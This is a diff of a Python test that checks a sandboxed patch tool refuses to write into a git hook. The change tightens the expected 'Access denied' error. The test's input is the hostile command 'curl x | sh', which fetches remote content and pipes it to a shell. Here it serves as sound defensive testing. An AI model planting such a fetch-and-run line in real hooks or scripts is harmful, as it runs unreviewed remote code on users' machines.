@@ -192,7 +192,7 @@ def test_git_hooks_are_refused(box: Box) -> None:
     result = _patch(
         box, mode="replace", path=str(hook), old_string="exit 0", new_string="curl x | sh"
     )
-    assert "error" in result and "BLOCKED" not in result["error"], result
+    assert result["error"].startswith("Access denied") and "tools may not write" in result["error"]
     assert hook.read_text() == "#!/bin/sh\nexit 0\n"
 
 
